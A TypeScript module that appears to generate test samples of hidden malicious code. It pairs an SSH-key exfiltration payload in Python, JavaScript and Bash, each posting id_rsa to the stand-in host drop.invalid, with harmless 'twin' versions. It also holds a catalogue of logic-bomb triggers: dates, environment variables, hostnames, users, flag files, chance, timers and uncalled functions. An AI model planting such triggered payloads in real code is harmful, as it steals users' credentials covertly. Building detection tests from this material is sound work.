import type { Language } from '../sample/sample.ts';

export interface Trigger {
  readonly name: string;
  readonly language: Extract<Language, 'python' | 'javascript' | 'bash'>;
  /** The program with `PAYLOAD` where it does its harm. */
  readonly code: string;
}

/** Reads a key and takes it to a name that no one can own (RFC 2606). In an empty network it goes nowhere. */
export const PAYLOADS: Record<Trigger['language'], string> = {
  python:
    "__import__('urllib.request').request.urlopen('http://drop.invalid/', data=open('/home/user/.ssh/id_rsa', 'rb').read())",
  javascript:
    "require('http').request({ host: 'drop.invalid', method: 'POST' }).on('error', () => {}).end(require('fs').readFileSync('/home/user/.ssh/id_rsa'))",
  bash: 'curl -s -m 1 --data-binary @/home/user/.ssh/id_rsa http://drop.invalid/',
};

/** What stands in the payload's place in a twin. */
export const HARMLESS: Record<Trigger['language'], string> = {
  python: "print('ready')",
  javascript: "console.log('ready')",
  bash: 'echo ready',
};

const python = (name: string, code: string): Trigger => ({ name, language: 'python', code });
const javascript = (name: string, code: string): Trigger => ({ name, language: 'javascript', code });
const bash = (name: string, code: string): Trigger => ({ name, language: 'bash', code });

export const TRIGGERS: readonly Trigger[] = [
  python('a date to come', 'import datetime\nif datetime.datetime.now() > datetime.datetime(2029, 3, 1):\n    PAYLOAD'),
  python('one day of the year', "import time\nif time.strftime('%m-%d') == '12-31':\n    PAYLOAD"),
  python('a day of the week', 'import datetime\nday = datetime.date.today().weekday()\nif day == 6:\n    PAYLOAD'),
  python('seconds since 1970', 'import time\nif time.time() > 2000000000:\n    PAYLOAD'),
  python('a countdown', 'import time\nfor left in range(10, 0, -1):\n    time.sleep(3600)\nPAYLOAD'),
  python(
    'a thread that sleeps',
    'import threading, time\ndef later():\n    time.sleep(90000)\n    PAYLOAD\nthreading.Thread(target=later).start()',
  ),
  python('a timer', 'import threading\ndef later():\n    PAYLOAD\nthreading.Timer(7200, later).start()'),
  python('a variable', "import os\nif os.environ.get('DEPLOY_STAGE') == 'live':\n    PAYLOAD"),
  python('a user', "import getpass\nwho = getpass.getuser()\nif who == 'jenkins':\n    PAYLOAD"),
  python('a host', "import socket\nif socket.gethostname().startswith('build-'):\n    PAYLOAD"),
  python('an argument', "import sys\nif len(sys.argv) > 1 and sys.argv[1] == '--activate':\n    PAYLOAD"),
  python('a file', "import os\nif os.path.exists('/tmp/armed.flag'):\n    PAYLOAD"),
  python('a terminal', 'import sys\nif sys.stdin.isatty():\n    PAYLOAD'),
  python('a word of input', "import sys\nif 'open sesame' in sys.stdin.read():\n    PAYLOAD"),
  python('chance', 'import random\nif random.random() < 0.001:\n    PAYLOAD'),
  python('a number drawn', 'import random\nif random.randint(1, 5000) == 4242:\n    PAYLOAD'),
  python('a function nobody calls', 'def tidy(path):\n    PAYLOAD\nprint("loaded")'),
  python(
    'a method nobody calls',
    'class Store:\n    def __init__(self, name):\n        self.name = name\n    def flush(self):\n        PAYLOAD',
  ),
  python(
    'an async function',
    'import asyncio\nasync def pull(limit: int = 3):\n    await asyncio.sleep(0)\n    PAYLOAD',
  ),
  python(
    'the fifth call',
    'count = 0\ndef tick():\n    global count\n    count += 1\n    if count == 5:\n        PAYLOAD\ntick()',
  ),
  python(
    'one value of a parameter',
    "def unlock(key: str):\n    if key == 'x-77-omega':\n        PAYLOAD\n    return False",
  ),
  python(
    'a signal handler',
    'import signal\ndef reload(number, frame):\n    PAYLOAD\nsignal.signal(signal.SIGUSR1, reload)',
  ),
  python(
    'the end of the program',
    'import atexit, datetime\ndef leave():\n    if datetime.date.today().year >= 2031:\n        PAYLOAD\natexit.register(leave)',
  ),
  javascript('a date to come', "if (new Date() > new Date('2030-05-05')) {\n  PAYLOAD\n}"),
  javascript('a month', 'const month = new Date().getMonth();\nif (month === 1) {\n  PAYLOAD\n}'),
  javascript('a timer of a day', 'setTimeout(() => {\n  PAYLOAD\n}, 86400000);'),
  javascript(
    'a countdown',
    'let left = 8;\nconst timer = setInterval(() => {\n  if (--left > 0) return;\n  clearInterval(timer);\n  PAYLOAD\n}, 600000);',
  ),
  javascript('a variable', "if (process.env.NODE_ENV === 'production') {\n  PAYLOAD\n}"),
  javascript('continuous integration', 'if (process.env.CI) {\n  PAYLOAD\n}'),
  javascript('a user', "const os = require('os');\nif (os.userInfo().username === 'deploy') {\n  PAYLOAD\n}"),
  javascript('a host', "const os = require('os');\nif (os.hostname() === 'web-42') {\n  PAYLOAD\n}"),
  javascript('an argument', "if (process.argv[2] === 'go-live') {\n  PAYLOAD\n}"),
  javascript('a terminal', 'if (process.stdout.isTTY) {\n  PAYLOAD\n}'),
  javascript('a file', "if (require('fs').existsSync('/tmp/ready.lock')) {\n  PAYLOAD\n}"),
  javascript('chance', 'if (Math.random() > 0.9999) {\n  PAYLOAD\n}'),
  javascript('an exported function', 'module.exports = {\n  format(text) {\n    PAYLOAD\n  },\n};'),
  javascript(
    'a method nobody calls',
    "class Cache {\n  constructor(size) { this.size = size; }\n  evict() {\n    PAYLOAD\n  }\n}\nconsole.log('loaded');",
  ),
  javascript('a signal', "process.on('SIGUSR2', () => {\n  PAYLOAD\n});"),
  bash('a date to come', 'if [ "$(date +%Y%m%d)" -ge 20300101 ]; then\n  PAYLOAD\nfi'),
  bash('an hour', 'hour=$(date +%H)\nif [ "$hour" = "03" ]; then\n  PAYLOAD\nfi'),
  bash('a long sleep', 'sleep 43200\nPAYLOAD'),
  bash('a countdown', 'for n in 5 4 3 2 1; do sleep 600; done\nPAYLOAD'),
  bash('a variable', 'if [ "$RELEASE_CHANNEL" = "stable" ]; then\n  PAYLOAD\nfi'),
  bash('the root user', 'if [ "$(id -u)" -eq 0 ]; then\n  PAYLOAD\nfi'),
  bash('a host', 'case "$(hostname)" in\n  prod*|db-01)\n    PAYLOAD\n    ;;\nesac'),
  bash('a user', 'if [ "$(whoami)" = "oracle" ]; then\n  PAYLOAD\nfi'),
  bash('an argument', 'case "$1" in\n  --purge)\n    PAYLOAD\n    ;;\nesac'),
  bash('a file', 'if [ -f /tmp/.armed ]; then\n  PAYLOAD\nfi'),
  bash('a terminal', 'if [ -t 0 ]; then\n  PAYLOAD\nfi'),
  bash('chance', 'if [ $((RANDOM % 1000)) -eq 7 ]; then\n  PAYLOAD\nfi'),
  bash('a function nobody calls', 'cleanup() {\n  PAYLOAD\n}\necho done'),
  bash('a trap', 'on_usr1() {\n  PAYLOAD\n}\ntrap on_usr1 USR1'),
];
